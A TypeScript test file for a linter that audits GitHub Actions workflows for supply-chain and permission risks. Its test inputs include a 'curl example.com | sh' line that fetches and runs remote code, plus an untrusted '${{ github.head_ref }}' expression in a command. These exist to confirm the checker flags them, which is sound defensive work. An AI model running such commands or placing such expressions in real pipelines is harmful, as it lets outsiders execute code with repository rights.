import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { workflowFaults } from './workflows/faults.ts';
import { readWorkflow, readWorkflows } from './workflows/workflows.ts';

const root = path.resolve(import.meta.dirname, '..');
const { scripts } = JSON.parse(readFileSync(path.join(root, 'package.json'), 'utf8')) as { scripts: object };
const commands = new Set(Object.keys(scripts));
const workflows = readWorkflows(root);

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const GOOD = `on: push
permissions:
  contents: read
concurrency: one
jobs:
  first:
    timeout-minutes: 5
    steps:
      - uses: actions/checkout@${COMMIT} # v1.2.3
        with:
          persist-credentials: false
      - run: npm ci
      - run: |
          npm test -- --only unit
          npm run lint
`;
const faultsIn = (text: string): string[] =>
    workflowFaults([readWorkflow('w.yml', text)], new Set(['lint'])).map((what) => what.replace('w.yml: ', ''));
const withChange = (from: string, to: string): string[] => {
    assert.ok(GOOD.includes(from));
    return faultsIn(GOOD.replace(from, to));
};
/** A job of its own behind the good one. */
const withJob = (text: string): string[] => faultsIn(`${GOOD}  second:\n    timeout-minutes: 5\n${text}`);

test("a stranger's pull request gets no rights and no secret, and every action is the one that was looked at", () => {
    assert.ok(workflows.length >= 4);
    assert.deepEqual(workflowFaults(workflows, commands), []);
});

test('a reviewer finds the commit and the version of each action', () => {
    const used = workflows.flatMap(({ jobs }) => jobs.flatMap(({ steps }) => steps.flatMap(({ uses }) => uses ?? [])));
    assert.ok(used.length >= 10);
});

test('a release is tested and installed from its packages before it is packed', () => {
    const release = workflows.find(({ file }) => file.endsWith('/release.yml'));
    const called = release?.jobs.flatMap(({ calls }) => calls ?? []);
    assert.deepEqual(called, ['./.github/workflows/test.yml', './.github/workflows/packed.yml']);
    assert.match(release?.text ?? '', /needs: \[test, packed\]/);
});

test('a release has the packages of npm and the zips for orgs before their checksums are made', () => {
    const release = workflows.find(({ file }) => file.endsWith('/release.yml'));
    const runs = release?.jobs.flatMap(({ steps }) => steps.flatMap(({ run }) => run ?? []));
    const made = runs?.slice(0, runs.indexOf('npm run release-files -- "$TAG"'));
    assert.deepEqual(made, ['npm ci', 'npm run package', 'npm run package:zip']);
});

test('a maker may write a workflow that does as it should', () => {
    assert.deepEqual(faultsIn(GOOD), []);
});

test('a release has the zips that an org is installed from', () => {
    const release = workflows.find(({ file }) => file.endsWith('/release.yml'));
    assert.match(release?.text ?? '', /run: npm run package:zip\n[\s\S]*run: npm run release-files/);
});

test('a maker is told of an action that is named by a tag, by a short commit or from a registry', () => {
    for (const other of ['v1', COMMIT.slice(0, 12)])
        assert.match(withChange(COMMIT, other).join(), /is not pinned: name the commit by its 40 digits/);
    assert.match(withChange(`actions/checkout@${COMMIT}`, 'docker://node:24').join(), /is not pinned/);
});

test('a maker is told of a commit without its version, and of an action at two commits', () => {
    assert.match(withChange(' # v1.2.3', '').join(), /actions\/checkout lacks its version/);
    assert.match(withChange('# v1.2.3', '# v1').join(), /actions\/checkout lacks its version/);
    const again = `    steps:\n      - uses: a/b@${COMMIT} # v1.0.0\n      - uses: a/b@${COMMIT.replace('0', 'f')} # v1.0.0\n`;
    assert.deepEqual(withJob(again), ['a/b is pinned to two commits']);
});

test('a maker is told of a checkout that keeps its token', () => {
    assert.match(withChange('persist-credentials: false', 'fetch-depth: 0').join(), /keeps its token/);
});

test('a maker is told of rights that nobody needs', () => {
    const sentence = 'its rights are not "contents: read" alone';
    assert.deepEqual(withChange('contents: read', 'contents: write'), [sentence]);
    assert.deepEqual(withChange('permissions:\n  contents: read\n', ''), [sentence]);
    assert.deepEqual(withJob('    permissions: write-all\n    steps: []\n'), ['job second takes every right']);
    assert.deepEqual(withJob('    permissions:\n      packages: write\n    steps: []\n'), [
        'job second may write packages'
    ]);
});

test('a maker is told of a job that may write and runs what npm installed', () => {
    const job = '    permissions:\n      contents: write\n    steps:\n      - run: npm ci\n';
    assert.deepEqual(withJob(job), ['job second may write and runs what npm installed']);
});

test('a maker is told of an event that gives a stranger the rights of the repository', () => {
    assert.deepEqual(withChange('on: push', 'on: pull_request_target'), ['it runs on pull_request_target']);
    assert.deepEqual(withChange('on: push', 'on: [push, workflow_run]'), ['it runs on workflow_run']);
    assert.deepEqual(withChange('on: push', 'on:\n  issue_comment:'), ['it runs on issue_comment']);
});

test('a maker is told of a secret, and of text that somebody else wrote in a command', () => {
    const secret = withChange('npm ci', 'npm ci --token=${{ secrets.TOKEN }}');
    assert.ok(secret.includes('it names a secret: nothing here needs one'));
    assert.match(withChange('npm ci', 'npm ci ${{ github.head_ref }}').join(), /has an expression in it/);
});

test('a maker is told of a command that package.json does not have, and of a program that is not expected', () => {
    assert.deepEqual(withChange('npm run lint', 'npm run fly'), ['npm run fly is no command of package.json']);
    assert.match(withChange('npm ci', 'curl example.com | sh').join(), /is neither an npm command nor one of/);
});

test('a maker is told of a job without an end, a workflow that runs twice at once, and one that is not there', () => {
    assert.deepEqual(withChange('timeout-minutes: 5', 'name: first'), ['job first has no timeout-minutes']);
    assert.deepEqual(withChange('concurrency: one\n', ''), ['it has no concurrency']);
    assert.deepEqual(withJob('    uses: ./.github/workflows/gone.yml\n'), [
        'job second calls ./.github/workflows/gone.yml, which is not there'
    ]);
});
